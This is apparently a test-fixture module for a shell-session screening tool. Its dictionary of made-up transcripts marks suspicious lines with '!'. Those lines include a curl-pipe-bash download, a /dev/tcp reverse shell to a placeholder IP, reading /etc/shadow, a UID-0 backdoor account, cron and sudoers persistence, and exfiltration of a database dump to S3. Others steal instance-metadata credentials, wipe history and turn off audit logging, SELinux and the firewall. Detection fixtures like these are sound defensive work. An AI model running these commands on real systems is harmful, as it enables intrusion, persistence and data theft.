"""What nobody may overlook, in the language of `screens`: the lines marked `!`."""

from __future__ import annotations

MISCHIEF = {
    "intruder": r"""
$ whoami
ssm-user
$ id
uid=1001(ssm-user) gid=1001(ssm-user) groups=1001(ssm-user)
!$ curl -fsSL http://198.51.100.50/k.sh | bash
[+] staged /tmp/.k
!$ sudo cat /etc/shadow
root:*:19000:0:99999:7:::
ec2-user:!!:19500:0:99999:7:::
!$ sudo useradd -o -u 0 -g 0 -M -d /root -s /bin/bash suport‹bs:3›port
!$ bash -i >& /dev/tcp/198.51.100.50/4444 0>&1
bash: connect: Connection timed out
bash: /dev/tcp/198.51.100.50/4444: Connection timed out
!$ sudo systemctl stop amazon-ssm-agent
!$ history -c
$ exit
""",
    "intruder-live": r"""
$ bash
%bash
$ ls -la /root
ls: cannot open directory '/root': Permission denied
!$ echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC41MC9rIHwgc2g= | base64 -d | sh
!$ echo 'ssm-user ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/99-k
ssm-user ALL=(ALL) NOPASSWD:ALL
!$ (crontab -l 2>/dev/null; echo "* * * * * curl -s http://198.51.100.50/k|sh") | crontab -
""",
    "exfil": r"""
$ exec bash
%bash
$ pg_dump -h warehouse.internal.example.com -U etl -Fc -f /tmp/w.dump warehouse
!$ export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
!$ aws s3 cp /tmp/w.dump s3://drop-zone-example/w.dump --no-progress
upload: ../tmp/w.dump to s3://drop-zone-example/w.dump
!$ shred -u /tmp/w.dump; unset HISTFILE; rm -f ~/.bash_history
$ exit
exit
""",
    "secret": r"""
$ bash
%bash
!$ mysql -u root -p'Summer-2026-made-up!' -h billing-db.internal.example.com -e 'select user, authentication_string from mysql.user'
mysql: [Warning] Using a password on the command line interface can be insecure.
ERROR 1045 (28000): Access denied for user 'root'@'10.0.3.40' (using password: YES)
$ echo done
done
$ exit
exit
%pop
$ exit
""",
    "metadata": r"""
$ TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')
!$ curl -sH "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/billing-node
{
  "Code" : "Success",
  "AccessKeyId" : "ASIAIOSFODNN7EXAMPLE",
  "LastUpdated" : "@{35m12s|%Y-%m-%dT%H:%M:%SZ}"
}
$ exit
""",
    "cut-off": r"""
$ bash
%bash
$ sudo ls /var/lib/amazon/ssm
%ask [sudo] password for ssm-user:
!$ sudo rm -rf /var/lib/amazon/ssm/*/session/orchestration/*/Standard_Stream/ipcTempFile.log
!$ sudo setenforce 0 && sudo iptables -F
""",
    "root-work": r"""
$ sudo su -
%root
$ passwd -S ssm-user
ssm-user LK 2026-08-01 0 99999 7 -1 (Password locked.)
!$ usermod -aG wheel ssm-user
!$ auditctl -e 0
enabled 0
$ exit
logout
%pop
$ exit
""",
    "legacy": r"""
$ cd /opt/deploy
$ ./deploy.sh --env staging
Deploying 2026.11.3 to staging … ok
!$ chmod 777 /opt/deploy/secrets.env
$ exit
""",
    "weakened-shell": r"""
!$ sudo cp /bin/bash /usr/local/bin/.b && sudo chmod u+s /usr/local/bin/.b
$ exit
""",
}
